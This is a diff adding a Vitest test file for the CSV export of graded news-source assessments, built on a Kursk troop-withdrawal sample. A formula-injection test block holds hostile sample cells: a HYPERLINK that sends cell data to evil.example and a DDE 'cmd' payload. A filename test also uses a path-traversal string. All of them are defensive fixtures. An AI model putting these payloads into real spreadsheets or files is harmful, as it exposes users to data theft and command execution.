@@ -1,0 +1,257 @@
+import { readFileSync } from 'node:fs'
+import { describe, expect, it } from 'vitest'
+import { kurskBrief, segmentSample, sources } from '../brief/kursk.fixture'
+import type { BriefInput } from '../brief/model'
+import type { Article, Assessment } from '../model'
+import { CREDIBILITY_LABELS, RELIABILITY_LABELS } from '../scales'
+import { normaliseText } from '../text'
+import { ASSESSMENT_CSV_COLUMNS, assessmentsCsv, assessmentsCsvFileName, csvField } from './csv'
+
+const SAMPLE = normaliseText(
+  readFileSync(new URL('../../../resources/samples/dprk-kursk.txt', import.meta.url), 'utf8')
+)
+
+/** RFC 4180, strictly: CRLF between records, quotes only around whole fields. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let field = ''
+  let i = 0
+  while (i < text.length) {
+    if (text[i] === '"' && field === '') {
+      i++
+      for (;;) {
+        if (i >= text.length) throw new Error('unterminated quoted field')
+        if (text[i] === '"') {
+          if (text[i + 1] === '"') {
+            field += '"'
+            i += 2
+            continue
+          }
+          i++
+          break
+        }
+        field += text[i++]
+      }
+      if (i < text.length && text[i] !== ',' && text[i] !== '\r') {
+        throw new Error(`text after a closing quote at ${i}`)
+      }
+      continue
+    }
+    if (text[i] === ',') {
+      row.push(field)
+      field = ''
+      i++
+    } else if (text[i] === '\r') {
+      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`)
+      row.push(field)
+      rows.push(row)
+      row = []
+      field = ''
+      i += 2
+    } else if (text[i] === '\n') {
+      throw new Error(`bare LF at ${i}`)
+    } else if (text[i] === '"') {
+      throw new Error(`quote inside an unquoted field at ${i}`)
+    } else {
+      field += text[i++]
+    }
+  }
+  if (field !== '' || row.length > 0) throw new Error('last record without CRLF')
+  return rows
+}
+
+function table(csv: string): Record<string, string>[] {
+  const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''))
+  for (const row of rows) expect(row).toHaveLength(header.length)
+  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])))
+}
+
+const input = kurskBrief(SAMPLE)
+const csv = assessmentsCsv(input)
+const rows = table(csv)
+const byId = (id: string): Record<string, string> => rows.find((r) => r.sentence_id === id)!
+
+describe('assessmentsCsv', () => {
+  it('starts with a UTF-8 byte-order mark and the header', () => {
+    const bytes = new TextEncoder().encode(csv)
+    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    expect(csv.slice(1, csv.indexOf('\r\n'))).toBe(ASSESSMENT_CSV_COLUMNS.join(','))
+    expect(csv.endsWith('\r\n')).toBe(true)
+  })
+
+  it('has one row per sentence, headings and ungraded ones included, in reading order', () => {
+    const { article, sentences } = input.articles[0]
+    expect(rows).toHaveLength(sentences.length)
+    rows.forEach((row, i) => {
+      const s = sentences[i]
+      expect(row.sentence_id).toBe(s.id)
+      expect(row.sentence_index).toBe(String(i + 1))
+      expect(row.kind).toBe(s.kind)
+      expect(row.text).toBe(article.text.slice(s.start, s.end))
+      expect(row.article_title).toBe('North Korean troops withdraw from Kursk after heavy losses')
+      expect(row.article_id).toBe('dprk')
+    })
+    expect(rows.filter((r) => r.kind === 'heading').map((r) => r.text)).toContain(
+      'North Korea’s Military Losses in Russia'
+    )
+  })
+
+  it('writes a graded sentence with the exact scale labels, its sources and its corroboration', () => {
+    expect(byId('dprk:0')).toMatchObject({
+      rating: 'B1',
+      source: 'Col. Oleksandr Kindratenko',
+      source_kind: 'military',
+      reliability: 'B',
+      reliability_label: 'Usually reliable',
+      credibility: '1',
+      credibility_label: 'Confirmed by other sources',
+      claim_type: 'claim',
+      role: 'paraphrase',
+      other_sources: 'CNN',
+      corroboration: 'circular',
+      corroboration_derived: 'circular',
+      override_reason: '',
+      supports: '1',
+      contradicts: '0',
+      key_judgment: 'yes',
+      updated_at: '2026-11-26T09:00:00.000Z'
+    })
+    expect(byId('dprk:1')).toMatchObject({ rating: 'B2', corroboration: 'corroborated', supports: '1' })
+    expect(byId('dprk:5')).toMatchObject({
+      rating: 'F3',
+      reliability_label: 'Reliability cannot be judged',
+      credibility_label: 'Possibly true',
+      other_sources: 'Western intelligence reports',
+      supports: '1'
+    })
+    expect(byId('dprk:9')).toMatchObject({
+      source: 'Russian Ministry of Defence',
+      reliability_label: 'Not usually reliable',
+      credibility_label: 'Doubtful',
+      corroboration: 'contested',
+      contradicts: '1'
+    })
+    expect(byId('dprk:16')).toMatchObject({ rating: 'B-', credibility: '', claim_type: 'context' })
+    for (const row of rows) {
+      if (row.reliability) expect(row.reliability_label).toBe(RELIABILITY_LABELS[row.reliability as 'A'])
+      if (row.credibility)
+        expect(row.credibility_label).toBe(CREDIBILITY_LABELS[Number(row.credibility) as 1])
+    }
+  })
+
+  it('leaves the grading cells of an ungraded sentence empty, and a heading not applicable', () => {
+    const ungraded = byId('dprk:6')
+    expect(ungraded).toMatchObject({
+      rating: '',
+      source: '',
+      reliability: '',
+      credibility: '',
+      claim_type: '',
+      key_judgment: 'no',
+      note: '',
+      updated_at: '',
+      corroboration: 'uncorroborated'
+    })
+    expect(rows.find((r) => r.kind === 'heading')).toMatchObject({ corroboration: 'not-applicable' })
+  })
+
+  it('quotes commas, quotes and newlines and keeps typographic punctuation intact', () => {
+    expect(byId('dprk:1').note).toBe('Compare *ISW* map [26 Jan] | <b>Sudzha</b>\nsecond line')
+    expect(csv).toContain('"Compare *ISW* map [26 Jan] | <b>Sudzha</b>\nsecond line"')
+    const quote = byId('dprk:2').text
+    expect(quote.startsWith('“The presence of DPRK troops')).toBe(true)
+    expect(csv).toContain(`"${quote}"`)
+    expect(csvField('He said "no", then left')).toBe('"He said ""no"", then left"')
+    expect(csvField('plain')).toBe('plain')
+    expect(csvField('a\r\nb')).toBe('"a\r\nb"')
+  })
+
+  it('writes an override with its reason beside the derived status', () => {
+    const overridden = kurskBrief(SAMPLE)
+    const a = overridden.articles[0].assessments.find((x) => x.sentenceId === 'dprk:0')!
+    a.corroborationOverride = { status: 'corroborated', reason: 'Confirmed by satellite imagery, 2 Feb' }
+    a.tags = ['troops', 'DPRK']
+    expect(table(assessmentsCsv(overridden)).find((r) => r.sentence_id === 'dprk:0')).toMatchObject({
+      corroboration: 'corroborated',
+      corroboration_derived: 'circular',
+      override_reason: 'Confirmed by satellite imagery, 2 Feb',
+      tags: 'troops; DPRK'
+    })
+  })
+})
+
+describe('assessmentsCsv against formula injection', () => {
+  const hostileText = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click for the map")',
+    '+1 soldiers were reported.',
+    '-2 is the count the ministry gave.',
+    '@SUM(A1:A9) is not a sentence.',
+    'Ukrainian officials said so.',
+    'Russian officials denied it.'
+  ].join('\n')
+  const article: Article = {
+    id: 'hostile',
+    title: "=cmd|' /C calc'!A0",
+    language: 'en',
+    text: hostileText,
+    importedAt: '2026-11-26T09:00:00.000Z',
+    origin: { kind: 'paste', sha256: '0'.repeat(64) }
+  }
+  const sentences = segmentSample('hostile', hostileText)
+  const notes = ['=1+1', '+1', '-2', '@SUM(1,2)', '\tindented', '\rcarriage']
+  const assessments: Assessment[] = notes.map((note, i) => ({
+    sentenceId: sentences[i].id,
+    articleId: 'hostile',
+    attributions: [{ sourceId: 'src-cnn', role: 'reported' }],
+    credibility: 3,
+    claimType: 'claim',
+    keyJudgment: false,
+    note,
+    tags: ['-tag'],
+    target: { exact: '' },
+    updatedAt: '2026-11-26T09:00:00.000Z'
+  }))
+  const hostile: BriefInput = {
+    title: 'Hostile',
+    generatedAt: '2026-11-26T09:00:00.000Z',
+    articles: [{ article, sentences, assessments, links: [] }],
+    sources
+  }
+  const out = assessmentsCsv(hostile)
+  const parsed = parseCsv(out.replace(/^\uFEFF/, ''))
+
+  it('prefixes every cell a spreadsheet would run as a formula with an apostrophe', () => {
+    const cells = parsed.flat()
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    const t = table(out)
+    expect(t.map((r) => r.text).slice(0, 4)).toEqual(
+      hostileText
+        .split('\n')
+        .slice(0, 4)
+        .map((line) => `'${line}`)
+    )
+    expect(t.map((r) => r.note)).toEqual(notes.map((n) => `'${n}`))
+    expect(t[0].article_title).toBe("'=cmd|' /C calc'!A0")
+    expect(t[0].tags).toBe("'-tag")
+  })
+
+  it('still quotes a neutralised formula that holds quotes and commas', () => {
+    expect(out).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click for the map"")"')
+  })
+
+  it('neutralises a leading tab and carriage return too', () => {
+    expect(csvField('\t=1')).toBe("'\t=1")
+    expect(csvField('\r=1')).toBe('"\'\r=1"')
+    expect(csvField('a=1')).toBe('a=1')
+  })
+})
+
+describe('assessmentsCsvFileName', () => {
+  it('names the file like the brief, as CSV', () => {
+    expect(assessmentsCsvFileName('Brief: Kursk / Sudzha — “status”?', '2026-11-26T15:30:00.000Z')).toBe(
+      'assessments-kursk-sudzha-status-2026-11-26.csv'
+    )
+    expect(assessmentsCsvFileName('../../etc/passwd', 'not a date')).toBe('assessments-etc-passwd.csv')
+  })
+})
